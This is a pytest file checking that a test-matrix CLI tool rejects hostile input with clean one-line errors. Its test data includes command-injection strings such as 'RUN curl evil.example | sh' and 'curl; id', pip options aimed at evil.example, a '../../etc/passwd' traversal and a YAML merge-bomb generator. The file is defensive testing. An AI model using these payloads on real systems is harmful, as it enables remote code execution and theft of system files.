"""Hostile input, damaged files and faults, through the real command line.

Each row is one case from the issue "Hostile input, damaged files and faults": what is
given (a matrix file, a plan.json, options, environment, a misbehaving index), the exit
code a user sees, and a fragment of the one-line message. No case may print a traceback.
Most rows run ``cli.main`` in-process; the ones about processes (a FIFO, a closed pipe,
the environment) run ``python -m orchestrator`` in a subprocess.
"""

from __future__ import annotations

import copy
import json
import os
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from orchestrator import cli
from orchestrator.plan import expand, index
from orchestrator.plan.matrix import load_matrix
from tests.conftest import ROOT, oxzep7
from tests.indexserver import IndexServer

BASE = """\
name: hostile
project: {path: app}
axes:
  python: ["3.9", "3.11"]
  click: ["7.1.2", "8.1.8"]
"""


def merge_bomb(levels: int = 9) -> str:
    """~700 bytes whose nested '<<' merges stand for 10^levels pairs."""
    rows = ["a0: &a0 {k0: v}"]
    for level in range(1, levels + 1):
        sources = ", ".join([f"*a{level - 1}"] * 10)
        rows.append(f"a{level}: &a{level} {{<<: [{sources}], k{level}: v}}")
    return "\n".join(rows) + "\n"


def axes(count: int, values: int, width: int = 3) -> str:
    """``count`` dependency axes of ``values`` versions each."""
    versions = ", ".join(f'"1.{"0" * (width - 1)}{v}"' for v in range(values))
    return "".join(f"  dep{a}: [{versions}]\n" for a in range(count))


@dataclass(frozen=True)
class Case:
    """``matrix`` (YAML text) or ``plan`` (a change to a valid plan.json) and options."""

    id: str
    code: int
    fragment: str
    matrix: str | None = None
    plan: Callable[[dict[str, Any]], object] | None = None
    options: tuple[str, ...] = ("--no-index",)
    env: dict[str, str] = field(default_factory=dict)


def at(path: str, value: object) -> Callable[[dict[str, Any]], None]:
    """A change to plan.json data: set the value at ``cells.0.id``-style ``path``."""

    def change(data: dict[str, Any]) -> None:
        *parents, last = path.split(".")
        target: Any = data
        for part in parents:
            target = target[int(part)] if isinstance(target, list) else target[part]
        if isinstance(target, list):
            target[int(last)] = value
        else:
            target[last] = value

    return change


CASES = [
    # --- plan.json is input: the same checks as a matrix file (exit 7: a damaged run file)
    Case("cell-id-newline", 7, "plan.json: cells[0].id: must be one line of printable text",
         plan=at("cells.0.id", "py3.9-click7.1.2\nRUN curl evil.example | sh")),
    Case("dependency-name-newline", 7, "is not a normalized distribution name",
         plan=at("cells.1.deps", {"click\nRUN id": "8.1.8"})),
    Case("python-2.7", 7, "plan.json: cells[3].python: '2.7' is not an interpreter version",
         plan=at("cells.3.python", "2.7")),
    Case("python-not-in-family", 7, "cells[0].python: Python 3.10 is not available",
         plan=at("cells.0.python", "3.10")),
    Case("install-quote-newline", 7, "plan.json: project.install: must be one line",
         plan=at("project.install", '.[test]"\nRUN id')),
    Case("install-not-a-target", 7, "project.install: expected '.' or '.[extra,...]'",
         plan=at("project.install", "requests")),
    Case("project-root", 7, "project.path: project path '/' is the filesystem root",
         plan=at("project.path", "/")),
    Case("jobs-many", 7, "plan.json: run.jobs: expected a whole number, got the string 'many'",
         plan=at("run.jobs", "many")),
    Case("memory-lots", 7, "run.memory: expected a memory size like '512m' or '2g', got 'lots'",
         plan=at("run.memory", "lots")),
    Case("timeout-negative", 7, "plan.json: run.timeout: must be at least 1, got -5",
         plan=at("run.timeout", -5)),
    Case("constraint-index-url", 7, "constraints[0]: '--index-url http://evil.example/simple/' "
         "is a pip option", plan=at("constraints", ["--index-url http://evil.example/simple/"])),
    Case("constraint-trusted-host", 7, "constraints[0]: '--trusted-host evil.example' is a pip",
         plan=at("constraints", ["--trusted-host evil.example"])),
    Case("constraint-url", 7, "is a URL requirement",
         plan=at("constraints", ["click @ http://evil.example/click.whl"])),
    Case("cell-id-a-number", 7, "plan.json: cells[0].id: expected a string, got the number 7",
         plan=at("cells.0.id", 7)),
    Case("cell-id-not-its-axes", 7, "cells[0].id: 'py3.9-click9' is not the id of the cell's axes",
         plan=at("cells.0.id", "py3.9-click9")),
    Case("two-baselines", 7, "cells: expected exactly one baseline cell, found 2",
         plan=at("cells.1.baseline", True)),
    Case("project-env-newline", 7, "project.env.A: must be one line", plan=at("project.env",
         {"A": "x\nRUN id"})),
    Case("project-deps-option", 7, "project.deps[0]: '--extra-index-url http://e/' is a pip option",
         plan=at("project.deps", ["--extra-index-url http://e/"])),
    Case("system-package-shell", 7, "project.system_packages[0]: 'curl; id' is not a Debian",
         plan=at("project.system_packages", ["curl; id"])),
    Case("requirements-outside", 7, "project.requirements: requirements file '../../etc/passwd'",
         plan=at("project.requirements", ["../../etc/passwd"])),
    Case("unknown-key", 7, "plan.json: cellz: unknown key 'cellz' (did you mean 'cells'?)",
         plan=lambda data: data.update(cellz=[])),
    Case("cells-over-max-cells", 7, "cells: 4 cells, more than run.max_cells (3)",
         plan=at("run.max_cells", 3)),
    Case("not-a-plan", 7, "not an oxzep7 plan", plan=at("schema", "oxzep7.results/1")),
    # --- Sizes ---------------------------------------------------------------------------
    Case("merge-bomb", 2, ":6: invalid YAML: expands to more than 100000 values",
         matrix=merge_bomb()),
    Case("deep-nesting", 2, ":6: invalid YAML: nested more than 64 levels deep",
         matrix=BASE + "run: " + "[" * 200 + "]" * 200 + "\n"),
    Case("self-alias", 2, ":3: invalid YAML: an alias refers to a node that contains it",
         matrix=BASE.replace("axes:", "axes: &axes") + "  more: *axes\n"),
    Case("timeout-5000-digits", 2, ":6: invalid YAML: a number of more than 32 digits",
         matrix=BASE + "run: {timeout: " + "9" * 5000 + "}\n"),
    Case("version-5000-digits", 2, ":5: axes.click[0]: longer than 4096 characters",
         matrix=BASE.replace('"7.1.2"', '"' + "1" * 5000 + '"')),
    Case("version-150-characters", 2, "a version or specifier set of more than 100 characters",
         matrix=BASE.replace('"7.1.2"', '"1.' + "1" * 150 + '"')),
    Case("newest-5000-digits", 2, ":5: axes.click.pick: longer than 40 characters",
         matrix=BASE.replace('["7.1.2", "8.1.8"]', "{pick: newest-" + "9" * 5000 + "}")),
    Case("179-million-cells", 2, ":3: axes: the axes multiply to 172,186,884 combinations (2 "
         "python x 2 click x 3 dep0 x 3 dep1 x 3 dep2 x 3 dep3 x 3 dep4 x 3 dep5 x 3 dep6 x 3 dep7 "
         "x 3 dep8 x 3 dep9 x 3 dep10 x 3 dep11 x 3 dep12 x 3 dep13 x 3 dep14 x 3 dep15), more "
         "than 2,560", matrix=BASE + axes(16, 3)),
    Case("over-max-cells", 2, ":3: axes: the matrix expands to 300 cells, more than run.max_cells "
         "(256)", matrix=BASE.replace("click: [", "c: [") + axes(1, 75)),
    Case("max-cells-raised", 0, "",
         matrix=BASE + axes(1, 75) + "run: {max_cells: 300}\n"),
    Case("max-cells-too-high", 2, "run.max_cells: must be at most 100000, got 1000000",
         matrix=BASE + "run: {max_cells: 1000000}\n"),
    Case("matrix-too-large", 2, "larger than 1048576 bytes; that is no matrix file",
         matrix=BASE + "# " + "x" * (1 << 20) + "\n"),
    # --- Command line and environment ----------------------------------------------------
    Case("index-url-not-a-url", 2, "--index-url: expected an http(s) URL with a host",
         options=("--index-url", "notaurl")),
    Case("index-url-bad-port", 2, "--index-url: expected an http(s) URL",
         options=("--index-url", "http://index.example:99999/simple/")),
    Case("pip-index-url-garbage", 2, "PIP_INDEX_URL: expected an http(s) URL with a host, "
         "like 'https://pypi.org/simple/', got '::garbage::'",
         options=(), env={"PIP_INDEX_URL": "::garbage::"}),
    Case("pyhton-next-to-python", 2, ":6: axes.pyhton: unknown key 'pyhton' (did you mean "
         "'python'?)", matrix=BASE + '  pyhton: ["3.11"]\n'),
    Case("cython-is-an-axis", 0, "", matrix=BASE + '  cython: ["3.0.11"]\n'),
    # --- Errors raised after loading cite the line ---------------------------------------
    Case("include-without-python", 2, ":7: include[0]: this entry matches no cell and names no "
         "python", matrix=BASE + 'include:\n  - {click: "8.0.0"}\n'),
    Case("selector-without-index", 2, ":5: axes.click: the selector 'latest' needs the package",
         matrix=BASE.replace('["7.1.2", "8.1.8"]', "{pick: latest}")),
]  # fmt: skip


@pytest.fixture
def workdir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    (tmp_path / "app").mkdir()
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("PIP_INDEX_URL", raising=False)
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    return tmp_path


def plan_json(workdir: Path, change: Callable[[dict[str, Any]], object]) -> Path:
    """A valid plan.json of BASE, changed by ``change``."""
    source = workdir / "base.yaml"
    source.write_text(BASE)
    data = copy.deepcopy(expand.plan(load_matrix(source)).to_dict())
    change(data)
    path = workdir / "plan.json"
    path.write_text(json.dumps(data))
    return path


def run_main(argv: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str, str]:
    code = cli.main(argv)
    out, err = capsys.readouterr()
    return code, out, err


@pytest.mark.parametrize("case", CASES, ids=[case.id for case in CASES])
def test_hostile_case(
    case: Case, workdir: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    for name, value in case.env.items():
        monkeypatch.setenv(name, value)
    if case.plan is not None:
        target = ["--frozen", str(plan_json(workdir, case.plan))]
    else:
        (workdir / "m.yaml").write_text(case.matrix or BASE)
        target = [str(workdir / "m.yaml")]
    code, _, err = run_main(["plan", *target, *case.options], capsys)
    assert code == case.code, err
    assert "Traceback" not in err
    if case.code:
        assert len(err.strip().splitlines()) == 1, err
        assert case.fragment in err, err


def test_a_huge_number_in_plan_json_is_refused(
    workdir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = plan_json(workdir, lambda data: None)
    path.write_text(path.read_text().replace('"timeout": 900', '"timeout": ' + "9" * 5000))
    code, _, err = run_main(["plan", "--frozen", str(path)], capsys)
    assert (code, err.strip()) == (
        7,
        f"oxzep7: error: {path}: not valid JSON: a number of more than 32 digits",
    )


def test_the_merge_bomb_is_refused_at_once(workdir: Path) -> None:
    path = workdir / "bomb.yaml"
    path.write_text(merge_bomb())
    assert len(path.read_bytes()) < 740
    started = time.perf_counter()
    with pytest.raises(Exception, match="expands to more than 100000 values"):
        load_matrix(path)
    assert time.perf_counter() - started < 1.0


def test_long_cell_ids_are_shortened_with_a_stable_hash(
    workdir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    names = [f"distribution-with-a-long-name-{n}" for n in range(6)]
    rows = "".join(f'  {name}: ["1.0.0.0.0.0.{n}", "2.0"]\n' for n, name in enumerate(names))
    (workdir / "m.yaml").write_text(BASE + rows)
    code, out, err = run_main(["plan", "m.yaml", "--no-index", "--json"], capsys)
    assert code == 0, err
    ids = [cell["id"] for cell in json.loads(out)["cells"]]
    assert len(set(ids)) == len(ids) == 256
    assert max(len(i) for i in ids) == expand.MAX_ID
    assert all(i[-9] == "-" and int(i[-8:], 16) >= 0 for i in ids)
    again = run_main(["plan", "m.yaml", "--no-index", "--json"], capsys)[1]
    assert [cell["id"] for cell in json.loads(again)["cells"]] == ids  # stable
    # A plan.json with such ids replays: the reader checks ids the same way.
    (workdir / "plan.json").write_text(out)
    assert run_main(["plan", "--frozen", "plan.json"], capsys)[0] == 0


def test_a_table_of_the_default_cap_prints_fast(
    workdir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (workdir / "m.yaml").write_text(BASE + axes(1, 64))  # 2 x 2 x 64 = 256 cells
    started = time.perf_counter()
    code, out, _ = run_main(["plan", "m.yaml", "--no-index"], capsys)
    assert code == 0 and "256 cells" in out
    assert time.perf_counter() - started < 3.0


# --- Files that are not files, and closed pipes (subprocesses) -----------------------------


@pytest.mark.parametrize("make", ["fifo", "device"])
def test_a_matrix_that_is_not_a_regular_file_is_refused_at_once(workdir: Path, make: str) -> None:
    if make == "fifo":
        path = workdir / "fifo.yaml"
        os.mkfifo(path)  # no writer: opening it to read would block forever
    else:
        path = Path("/dev/zero")  # never ends
    done = oxzep7("plan", str(path), cwd=ROOT, timeout=30)
    assert done.returncode == 2
    assert done.stderr.strip() == (
        f"oxzep7: error: {path}: is not a regular file (a pipe or a device?); give a matrix file"
    )


def test_a_closed_stdout_exits_141_without_a_traceback(workdir: Path) -> None:
    (workdir / "m.yaml").write_text(BASE + axes(2, 17) + "run: {max_cells: 1200}\n")  # > 64 KiB
    for extra in (["--json"], []):
        matrix = str(workdir / "m.yaml")
        command = [sys.executable, "-m", "orchestrator", "plan", matrix, "--no-index", *extra]
        with subprocess.Popen(
            command, cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE
        ) as process:
            assert process.stdout is not None and process.stderr is not None
            process.stdout.readline()
            process.stdout.close()  # like `| head -1`
            err = process.stderr.read().decode()
            code = process.wait(timeout=60)
        assert (code, err) == (141, ""), err


def test_a_garbage_pip_index_url_in_the_environment(workdir: Path) -> None:
    (workdir / "m.yaml").write_text(BASE)
    environment = {**os.environ, "PIP_INDEX_URL": "::garbage::"}
    done = oxzep7("plan", str(workdir / "m.yaml"), cwd=ROOT, env=environment)
    assert done.returncode == 2
    assert done.stderr.startswith("oxzep7: error: PIP_INDEX_URL: expected an http(s) URL")
    assert "Traceback" not in done.stderr


# --- A misbehaving index -------------------------------------------------------------------


@pytest.fixture
def bad_index() -> Iterator[Callable[[bytes | None], str]]:
    """An index on 127.0.0.1 that answers every request with ``reply`` (None: silence,
    the connection held open), then, for an endless body, zeros until the client leaves."""
    servers: list[socket.socket] = []

    def start(reply: bytes | None) -> str:
        listener = socket.create_server(("127.0.0.1", 0))
        servers.append(listener)
        threading.Thread(target=_serve, args=(listener, reply), daemon=True).start()
        return f"http://127.0.0.1:{listener.getsockname()[1]}/simple/"

    yield start
    for listener in servers:
        listener.close()


def _serve(listener: socket.socket, reply: bytes | None) -> None:
    held = []
    while True:
        try:
            connection, _ = listener.accept()
        except OSError:
            return
        held.append(connection)
        if reply is None:
            continue
        try:
            connection.recv(65536)
            connection.sendall(reply)
            while reply.endswith(b"\r\n\r\n"):  # headers only: an endless body follows
                connection.sendall(b"0" * 65536)
        except OSError:
            connection.close()


ENDLESS = b"HTTP/1.1 200 OK\r\nContent-Type: application/vnd.pypi.simple.v1+json\r\n\r\n"


@pytest.mark.parametrize(
    ("reply", "fragment"),
    [
        (None, "cannot reach the index {url} (no answer within 0.5 s)"),
        (ENDLESS, "the index {url} sent more than 1 MiB"),
        (b"HELLO\r\n\r\n", "malformed answer from the index {url} (BadStatusLine)"),
    ],
    ids=["never-answers", "endless-body", "not-http"],
)
def test_a_misbehaving_index_is_exit_6_in_bounded_time(
    workdir: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    bad_index: Callable[[bytes | None], str],
    reply: bytes | None,
    fragment: str,
) -> None:
    monkeypatch.setattr(index.IndexClient, "timeout", 0.5)
    monkeypatch.setattr(index, "MAX_BODY", 1 << 20)
    url = bad_index(reply)
    (workdir / "m.yaml").write_text(BASE)
    started = time.perf_counter()
    code, _, err = run_main(["plan", "m.yaml", "--index-url", url], capsys)
    assert code == 6, err
    assert fragment.format(url=url) in err
    assert len(err.strip().splitlines()) == 1
    assert time.perf_counter() - started < 10


@pytest.mark.parametrize(
    ("click", "fragment"),
    [
        ('["9.9"]', ":5: axes.click[0]: click 9.9 is not on the package index"),
        ("{range: '>=9', pick: latest}", ":5: axes.click: 'latest of >=9' selects no release"),
    ],
)
def test_index_errors_cite_the_line(
    workdir: Path, capsys: pytest.CaptureFixture[str], click: str, fragment: str
) -> None:
    (workdir / "m.yaml").write_text(BASE.replace('["7.1.2", "8.1.8"]', click))
    with IndexServer() as server:
        code, _, err = run_main(["plan", "m.yaml", "--index-url", server.url], capsys)
    assert code == 2
    assert fragment in err
